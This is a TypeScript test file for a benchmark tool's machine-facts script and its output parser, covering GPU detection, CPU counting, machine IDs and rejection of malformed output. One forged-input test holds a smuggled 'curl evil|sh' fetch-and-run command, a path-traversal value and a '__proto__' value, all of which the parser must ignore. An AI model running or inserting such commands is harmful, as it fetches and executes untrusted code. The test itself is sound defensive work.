import { spawnSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { machineCommand, parseMachine as parseAnswer, parseMachineIds } from '../../src/benchmarks/machine.ts';
import { Failure } from '../../src/domain/failures/failure.ts';
import { anyText, recorded } from './recorded.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const shells = [['dash'], ['bash'], ['bash', '--posix'], ['busybox', 'sh']].filter(
  ([program]) => spawnSync(program!, ['-c', 'true']).error === undefined
);

const asked = ['sh', 'sysbench', 'openssl', 'clpeak', 'clinfo'];
const parseMachine = (stdout: string) => parseAnswer(stdout, asked);

let root: string;

function file(path: string, text: string): void {
  const full = join(root, path);
  mkdirSync(dirname(full), { recursive: true });
  writeFileSync(full, text);
}

function pciDevice(address: string, vendor: string, kind: string): void {
  file(`sys/bus/pci/devices/${address}/vendor`, `${vendor}\n`);
  file(`sys/bus/pci/devices/${address}/class`, `${kind}\n`);
}

beforeAll(() => {
  root = temporaryFolder("a machine's");
  file('etc/os-release', 'NAME="Rocky Linux"\nPRETTY_NAME="Rocky Linux 9.4 (Blue Onyx)"\n');
  file('proc/cpuinfo', 'processor\t: 0\nmodel name\t: Made Up CPU @ 3.0GHz\nprocessor\t: 1\nprocessor\t: 2\n');
  file('proc/meminfo', 'MemTotal:       2113536000 kB\nMemFree:         100 kB\n');
  pciDevice('0000:00:00.0', '0x1022', '0x060000'); // host bridge
  pciDevice('0000:03:00.0', '0x1a03', '0x030000'); // the display of a BMC
  pciDevice('0000:17:00.0', '0x10de', '0x030200'); // H100: 3D controller
  file('sys/bus/pci/devices/0000:17:00.0/device', '0x2330\n');
  // The format of the NVIDIA driver.
  file('proc/driver/nvidia/gpus/0000:17:00.0/information', 'Model: \t\t NVIDIA H100 80GB HBM3\nIRQ:   \t\t 42\n');
  pciDevice('0000:65:00.0', '0x10de', '0x030000'); // a workstation card: display
  pciDevice('0000:65:00.1', '0x10de', '0x040300'); // its audio
  pciDevice('0000:85:00.0', '0x1002', '0x120000'); // MI300X: accelerator
  file('sys/bus/pci/devices/0000:85:00.0/product_name', 'AMD Instinct MI300X OAM\n');
  pciDevice('0000:a1:00.0', '0x10de', '0x068000'); // NVSwitch: bridge
  mkdirSync(join(root, 'sys/bus/pci/devices/0000:ff:00.0')); // disappears during the check
});

function answer(shell: string[], command: string, env: NodeJS.ProcessEnv = process.env): string {
  const { stdout, stderr } = spawnSync(shell[0]!, [...shell.slice(1), '-c', command], {
    encoding: 'utf8',
    env,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  expect(stderr).toBe('');
  return stdout;
}

describe.each(shells.map((shell) => [shell.join(' '), shell] as const))('the script under %s', (_, shell) => {
  test('finds the GPUs that the kernel shows, and no other devices', () => {
    expect(parseMachine(answer(shell, machineCommand([], root))).gpus).toEqual([
      { address: '0000:17:00.0', vendor: 'nvidia', deviceId: '2330', model: 'NVIDIA H100 80GB HBM3', uuid: null },
      { address: '0000:65:00.0', vendor: 'nvidia', deviceId: null, model: null, uuid: null },
      { address: '0000:85:00.0', vendor: 'amd', deviceId: null, model: 'AMD Instinct MI300X OAM', uuid: null },
    ]);
  });

  test('reads machine id and boot id if there are any', () => {
    const at = join(root, 'machine-ids');
    const ids = () => parseMachineIds(answer(shell, machineCommand([], at)));
    expect(ids()).toEqual({ machineId: null, bootId: null, node: hostname(), hostKeys: [] });
    file('machine-ids/var/lib/dbus/machine-id', '0123456789abcdef0123456789abcdef\n');
    file('machine-ids/etc/ssh/ssh_host_rsa_key.pub', 'ssh-rsa AAAAB3Nz root@web-1\n');
    file('machine-ids/etc/ssh/ssh_host_ed25519_key.pub', 'ssh-ed25519 AAAAC3Nz\n');
    file('machine-ids/proc/sys/kernel/random/boot_id', '21ef9c14-32a9-4eb1-9d65-c3dbbf2d5e24\n');
    const hostKeys = ['AAAAC3Nz', 'AAAAB3Nz'];
    const bootId = '21ef9c14-32a9-4eb1-9d65-c3dbbf2d5e24';
    expect(ids()).toEqual({ machineId: '0123456789abcdef0123456789abcdef', bootId, node: hostname(), hostKeys });
    file('machine-ids/etc/machine-id', 'fedcba9876543210fedcba9876543210\n');
    expect(ids()).toEqual({ machineId: 'fedcba9876543210fedcba9876543210', bootId, node: hostname(), hostKeys });
    rmSync(at, { recursive: true });
  });

  test('reads the facts of a machine', () => {
    expect(parseMachine(answer(shell, machineCommand(['sh', 'no-such-tool'], root)))).toMatchObject({
      system: 'Rocky Linux 9.4 (Blue Onyx)',
      kernel: expect.stringMatching(/^\d+\./),
      cpuModel: 'Made Up CPU @ 3.0GHz',
      memoryMib: 2_064_000,
      executables: ['sh'],
    });
  });

  test('reads what a vendor asks for first, as far as the machine tells it', () => {
    const read = (at: string) => parseMachine(answer(shell, machineCommand([], join(root, at)))).hardware;
    expect(read('nowhere')).toEqual({});
    file('dell/sys/class/dmi/id/product_name', 'PowerEdge XE9680\n');
    file('dell/sys/class/dmi/id/bios_version', '2.1.3\n');
    file('dell/sys/module/nvidia/version', '550.54.15\n');
    file('dell/sys/module/amdgpu/version', '6.8.5\n');
    expect(read('dell')).toEqual({ product: 'PowerEdge XE9680', bios: '2.1.3', gpuDriver: '550.54.15' });
    file('amd/sys/module/amdgpu/version', '6.8.5\n');
    file('amd/sys/class/dmi/id/bios_version', ' \u001b[2J \n');
    expect(read('amd')).toEqual({ bios: '[2J', gpuDriver: '6.8.5' });
  });

  test.each([
    ['processor\t: 0\n\nModel\t\t: Raspberry Pi 5 Model B Rev 1.0\n', 'Raspberry Pi 5 Model B Rev 1.0'],
    ['model name\t: ARMv7 Processor\n\nmodel name\t: Other\nModel\t: Raspberry Pi 3\n', 'ARMv7 Processor'],
    ['model name\t: \nModel\t: Made Up Board\n', 'Made Up Board'],
  ])('reads the CPU model from %j', (cpuinfo, cpuModel) => {
    file('models/proc/cpuinfo', cpuinfo);
    expect(parseMachine(answer(shell, machineCommand([], join(root, 'models'))))).toMatchObject({ cpuModel });
  });

  test('works on a machine without these files', () => {
    const bare = parseMachine(answer(shell, machineCommand([], join(root, 'nowhere'))));
    expect(bare).toMatchObject({ system: null, cpuModel: null, memoryMib: null, gpus: [], executables: [] });
  });

  test('counts the allowed CPUs, for any OMP_NUM_THREADS', () => {
    const command = machineCommand([], root);
    const { cpus } = parseMachine(answer(shell, command, { ...process.env, OMP_NUM_THREADS: '7777' }));
    expect(cpus).toBe(parseMachine(answer(shell, command)).cpus);
    expect(cpus).not.toBe(7777);
  });

  test('reads the variables that hide devices, including an empty one, and the process limits', () => {
    const variables = { CUDA_VISIBLE_DEVICES: '', ROCR_VISIBLE_DEVICES: '0,1' };
    const limited = `ulimit -t 60; ${machineCommand(asked, root)}`;
    expect(parseMachine(answer(shell, limited, { ...process.env, ...variables }))).toMatchObject({
      hidesDevices: ['CUDA_VISIBLE_DEVICES=', 'ROCR_VISIBLE_DEVICES=0,1'],
      limits: { quotaCpus: null, cpuSeconds: 60 },
    });
    expect(parseMachine(answer(shell, machineCommand(asked, root)))).toMatchObject({ hidesDevices: [] });
  });

  test.each([
    ['0-2,5', '0-2,5', 4],
    ['7', '7', 1],
    ['0-127', '0-1', null],
    ['3,7', '0-1', null], // lxcfs counts the online CPUs of a container from 0
    ['', '', null],
  ])('with the allowed CPUs %j of the online CPUs %j counts %j, or asks nproc', (allowed, online, cpus) => {
    file('cpus/proc/self/status', `Name:\tsh\nCpus_allowed_list:\t${allowed}\n`);
    file('cpus/sys/devices/system/cpu/online', `${online}\n`);
    const asked = parseMachine(answer(shell, machineCommand([], root))).cpus;
    expect(parseMachine(answer(shell, machineCommand([], join(root, 'cpus')))).cpus).toBe(cpus ?? asked);
  });

  test('respects a CPU affinity', (context) => {
    const pin = 'exec taskset -c 0 "$@"';
    const pinned = spawnSync('/bin/sh', ['-c', pin, 'sh', ...shell, '-c', machineCommand([], root)], {
      encoding: 'utf8',
    });
    if (pinned.status !== 0) context.skip('no taskset here, or CPU 0 is not ours');
    expect(parseMachine(pinned.stdout).cpus).toBe(1);
  });

  // busybox has its own nproc.
  test.skipIf(shell[0] === 'busybox')('counts them in /proc/cpuinfo without nproc and getconf', () => {
    const bin = temporaryFolder('bin');
    for (const program of ['sed', 'grep', 'head', 'uname']) {
      const { stdout } = spawnSync('/bin/sh', ['-c', `command -v ${program}`], { encoding: 'utf8' });
      symlinkSync(stdout.trim(), join(bin, program));
    }
    const absolute = spawnSync('/bin/sh', ['-c', `command -v ${shell[0]!}`], { encoding: 'utf8' }).stdout.trim();
    const stdout = answer([absolute, ...shell.slice(1)], machineCommand([], root), { PATH: bin });
    expect(parseMachine(stdout).cpus).toBe(3);
  });
});

test('at least two shells were tested', () => {
  expect(shells.length).toBeGreaterThan(1);
});

const real = recorded('machine/debian-12.txt');

test('an invalid machine id is null, and the machine id is not part of the facts', () => {
  for (const id of ['', 'uninitialized', '0123', 'x'.repeat(1_000_000), '0123456789ABCDEF0123456789ABCDEF']) {
    const output = real.replace('cpus=', `machine_id=${id}\nboot_id=${id}\ncpus=`);
    expect(parseMachineIds(output)).toEqual({ machineId: null, bootId: null, node: null, hostKeys: [] });
  }
  const secret = '0123456789abcdef0123456789abcdef';
  const output = real.replace('cpus=', `machine_id=${secret}\ncpus=`);
  expect(parseMachineIds(`machine_id=${'f'.repeat(32)}\n${output}`).machineId).toBe(secret);
  expect(JSON.stringify(parseMachine(output))).not.toContain(secret);
});

describe('parseMachine', () => {
  test('reads a real output', () => {
    expect(parseMachine(real)).toEqual({
      system: 'Debian GNU/Linux 12 (bookworm)',
      kernel: '6.18.44-fc-v669',
      cpuModel: 'AMD EPYC',
      cpus: 2,
      memoryMib: 24_105,
      gpus: [],
      otherGpus: [],
      limits: { quotaCpus: null, cpuSeconds: null, memoryKib: null },
      hardware: {},
      hidesDevices: [],
      executables: ['sysbench', 'openssl', 'clpeak', 'clinfo'],
      packageManager: 'apt-get',
    });
  });

  test('ignores what a login script prints around the output', () => {
    expect(parseMachine(`cpus=9000\n*** NOTICE ***\n${real}\nbye\ncpus=1`)).toEqual(parseMachine(real));
  });

  test.each(['0', '-1', '', 'two', '2.5', '1e9', '9999999', '2 3'])('%j CPUs are HostUnsuitable', (cpus) => {
    expect(refusal(real.replace('cpus=2', `cpus=${cpus}`))).toMatch(/^the number of CPUs cannot be read; it printed/);
  });

  test('an incomplete output is HostUnsuitable, and is shown', () => {
    expect(refusal('')).toBe('the script that reads the machine facts did not finish; it printed nothing');
    expect(refusal('\x1b[1mThis account is currently not available.\n')).toContain(
      'printed "[1mThis account is currently'
    );
    for (let length = 0; length < real.trimEnd().length; length += 1) refusal(real.slice(0, length));
  });

  test('ignores everything that was not requested', () => {
    const forgedLines = [
      'gpu=../../etc 0x10de',
      'gpu=0000:17:00.0 0x8086',
      'gpu=0000:17:00.0 0x8086 0x4940 0x0b4000 -',
      'gpu=0000:17:00.0 __proto__',
      'executable=a b',
      'executable=bash',
      'executable=sysbench',
      'package_manager=curl evil|sh',
    ];
    const output = real.replace(/package_manager=.*\n/, `${forgedLines.join('\n')}\n`);
    expect(parseMachine(output)).toEqual({ ...parseMachine(real), packageManager: null });
  });

  test('is limited in size, for any output', () => {
    const gpus = Array.from(
      { length: 10_000 },
      (_, at) => `gpu=${at.toString(16).padStart(8, '0')}:00:00.0 0x10de 0x2330 0x030200 -\n`
    );
    const output = real.replace(/package_manager=/, `${gpus.join('')}${'executable=clinfo\n'.repeat(10_000)}$&`);
    const machine = parseMachine(output);
    expect(machine.gpus).toHaveLength(64);
    expect(machine.executables).toEqual(['sysbench', 'openssl', 'clpeak', 'clinfo']);
    expect(machine.packageManager).toBe('apt-get');
  });

  test('shows names without control characters, and truncated', () => {
    const { system, cpuModel } = parseMachine(
      real.replace(/system=.*/, 'system=\x1b[2J"x"\u202e').replace(/cpu_model=.*/, `cpu_model=${'X'.repeat(10_000)}`)
    );
    expect(system).toBe('[2J"x"');
    expect(cpuModel).toHaveLength(120);
  });

  test('returns a machine or throws HostUnsuitable, whatever the output', () => {
    const lines = real.split('\n');
    const line = fc.oneof(fc.constantFrom(...lines), anyText(20));
    fc.assert(
      fc.property(fc.array(line, { maxLength: 20 }), (all) => {
        try {
          const { cpus, memoryMib } = parseMachine(all.join('\n'));
          expect(Number.isInteger(cpus) && cpus > 0).toBe(true);
          expect(memoryMib === null || Number.isInteger(memoryMib)).toBe(true);
        } catch (error) {
          if (!(error instanceof Failure)) throw error;
          expect(error.kind).toBe('HostUnsuitable');
        }
      })
    );
  });
});

function refusal(stdout: string): string {
  try {
    parseMachine(stdout);
  } catch (error) {
    if (error instanceof Failure && error.kind === 'HostUnsuitable') return error.message;
    throw error;
  }
  throw new Error('not refused');
}
